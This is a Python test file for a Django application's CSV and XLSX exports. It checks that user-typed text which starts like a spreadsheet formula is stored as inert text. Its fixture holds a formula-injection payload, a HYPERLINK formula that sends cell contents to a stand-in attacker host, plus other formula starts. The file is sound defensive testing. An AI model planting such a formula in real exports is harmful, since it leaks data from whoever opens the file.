"""No export opens a text as a formula: every CSV and XLSX download of Brygga, walked with a
name that a partner or an administrator typed as "=HYPERLINK(…)", keeps it inert text and keeps
its counts numbers."""

from __future__ import annotations

import ast
import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from brygga.audit.log import record
from brygga.audit.models import Action
from brygga.lib import spreadsheet
from brygga.lib.spreadsheet import FORMULA_START, guard, starts_like_a_formula, unguard
from brygga.organisation.models import Role
from brygga.partners.models import Organisation
from tests.conftest import signed_in
from tests.factories import staff_member
from tests.partners.conftest import partners  # noqa: F401 - a fixture
from tests.stats.test_report_views import fill

BRYGGA = Path(__file__).resolve().parents[2] / "brygga"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"Klicka här")'
# Every kind of formula start, as someone could type it into a name or a reason.
STARTS = [LINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


# --- The rule -----------------------------------------------------------------------------


@pytest.mark.parametrize("text", STARTS)
def test_a_text_starting_like_a_formula_gets_a_leading_apostrophe(text):
    assert guard(text) == "'" + text
    assert unguard(guard(text)) == text


@pytest.mark.parametrize("value", ["Anna", "2026-01-01", "", "a=b", "12", "-3", "4,5", 7, -2.5])
def test_names_dates_and_numbers_are_written_as_they_are(value):
    assert guard(value) == str(value)


@given(st.text())
def test_any_text_comes_back_as_written_and_never_starts_like_a_formula(text):
    written = guard(text)

    assert unguard(written) == text
    assert written[:1] not in FORMULA_START or re.fullmatch(r"-?\d+([.,]\d+)?", written)


def test_an_xlsx_text_cell_is_stored_as_text_and_a_number_as_a_number():
    book = Workbook()
    sheet = book.active
    spreadsheet.append_row(sheet, [LINK, 12, "Söder", None])
    buffer = io.BytesIO()
    book.save(buffer)

    link, count, name = load_workbook(buffer).active[1]

    assert (link.value, link.data_type, link.quotePrefix) == (LINK, "s", True)
    assert (count.value, count.data_type) == (12, "n")
    assert (name.value, name.quotePrefix) == ("Söder", False)


# --- Every export goes through the rule ----------------------------------------------------


def _writers_outside_the_helper() -> list[str]:
    """Places in brygga/ that write CSV or fill a workbook without brygga.lib.spreadsheet."""
    found = []
    for path in BRYGGA.rglob("*.py"):
        if path.name == "spreadsheet.py" and path.parent.name == "lib":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        workbook = any(
            (isinstance(n, ast.ImportFrom) and (n.module or "").startswith("openpyxl"))
            or (isinstance(n, ast.Import) and any(a.name.startswith("openpyxl") for a in n.names))
            for n in ast.walk(tree)
        )
        for node in ast.walk(tree):
            where = f"{path.relative_to(BRYGGA)}:{getattr(node, 'lineno', 0)}"
            if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
                if node.value.id == "csv" and node.attr in ("writer", "DictWriter"):
                    found.append(f"{where} csv.{node.attr}")
            if not workbook:
                continue
            # A workbook is filled only by spreadsheet.append_row: no sheet.append(…),
            # no sheet.cell(…), no sheet["A1"] = ….
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
                if node.func.attr in ("append", "cell"):
                    found.append(f"{where} .{node.func.attr}()")
            if isinstance(node, ast.Assign) and any(
                isinstance(t, ast.Subscript) for t in node.targets
            ):
                found.append(f"{where} a cell assigned")
    return found


def test_no_module_writes_a_csv_or_a_workbook_except_through_the_shared_helper():
    assert _writers_outside_the_helper() == []
    assert (BRYGGA / "lib" / "spreadsheet.py").exists()  # the helper this test points to


def _download_names() -> set[str]:
    """Every URL whose route names a CSV, XLSX or zip (of CSV files) download."""
    names = set()

    def walk(patterns, namespace=""):
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, f"{namespace}{p.namespace}:" if p.namespace else namespace)
            elif isinstance(p, URLPattern) and re.search(r"\.(csv|xlsx|zip)$", str(p.pattern)):
                names.add(namespace + p.name)

    walk(get_resolver().url_patterns)
    return names


EXPORTS = {
    "stats:report_csv",
    "stats:report_xlsx",
    "network:city_csv",
    "network:city_xlsx",
    "log_review_export",
    "partners:hsds_export_zip",
}


def test_the_walk_below_covers_every_spreadsheet_download():
    assert _download_names() == EXPORTS


@pytest.fixture
def typed_like_formulas(cast, partners):  # noqa: F811
    """Text that users typed, each starting like a formula: a district's name (the
    administrator's), a partner organisation's description, a reason for emergency access."""
    district = cast.sodermalm.administration
    district.name = LINK
    district.save()
    fill(cast.sodermalm, 12)
    fill(cast.rinkeby, 6, start=12)
    partners.mentors.description = "+46 8 123 45 67 " + LINK
    partners.mentors.save()
    Organisation.objects.filter(pk=partners.cafe.pk).update(description="@SUM(A1)")
    for reason in STARTS:
        record(
            None,
            Action.EMERGENCY_ACCESS,
            user=cast.case_worker,
            person_id=cast.case.person_id,
            reason=reason,
        )
    return partners


def _texts_of(url_name: str, content: bytes) -> tuple[list[str], list]:
    """(every CSV cell as written, every XLSX cell) of a download."""
    if url_name.endswith("xlsx"):
        book = load_workbook(io.BytesIO(content))
        return [], [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    if url_name.endswith("zip"):
        archive = zipfile.ZipFile(io.BytesIO(content))
        texts = [archive.read(n).decode() for n in archive.namelist()]
        return [c for t in texts for row in csv.reader(io.StringIO(t)) for c in row], []
    text = content.decode("utf-8-sig")
    return [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row], []


@pytest.mark.django_db
@pytest.mark.parametrize("url_name", sorted(EXPORTS))
def test_every_export_writes_formula_text_inert_and_numbers_as_numbers(
    cast, typed_like_formulas, url_name
):
    users = {
        "stats": staff_member(Role.STATISTICIAN, None, username="statistiker"),
        "network": staff_member(Role.NETWORK, None, username="natverk"),
        "log": cast.unit_manager,
        "partners": typed_like_formulas.coordinator,
    }
    user = users[url_name.split(":")[0].split("_")[0]]
    query = {"year": timezone.localdate().year, "quarter": 0} if "stats" in url_name else {}
    response = signed_in(user).get(reverse(url_name), query)
    assert response.status_code == 200

    csv_cells, xlsx_cells = _texts_of(url_name, response.content)

    if csv_cells:
        assert any(cell.startswith("'" + LINK[:10]) or LINK in cell for cell in csv_cells)
        assert not [c for c in csv_cells if starts_like_a_formula(c) and not c.startswith("'")]
        if url_name != "partners:hsds_export_zip":  # the directory has no counts
            assert any(re.fullmatch(r"\d+", c) for c in csv_cells)  # counts stay plain numbers
    else:
        texts = [c for c in xlsx_cells if isinstance(c.value, str)]
        assert LINK in [c.value for c in texts]
        assert not [c for c in xlsx_cells if c.data_type == "f"]
        assert all(c.quotePrefix for c in texts if starts_like_a_formula(c.value))
        if url_name == "stats:report_xlsx":
            assert any(isinstance(c.value, int) for c in xlsx_cells)  # counts stay numbers


@pytest.mark.django_db
def test_a_directory_exported_as_csv_and_imported_again_keeps_a_formula_like_description(
    typed_like_formulas,
):
    coordinator = typed_like_formulas.coordinator
    client = signed_in(coordinator)
    content = client.get(reverse("partners:hsds_export_zip")).content

    response = client.post(
        reverse("partners:hsds"), {"file": SimpleUploadedFile("katalog.zip", content)}
    )

    assert response.status_code == 302
    mentors = Organisation.objects.get(pk=typed_like_formulas.mentors.pk)
    assert mentors.description == "+46 8 123 45 67 " + LINK
    assert Organisation.objects.get(pk=typed_like_formulas.cafe.pk).description == "@SUM(A1)"
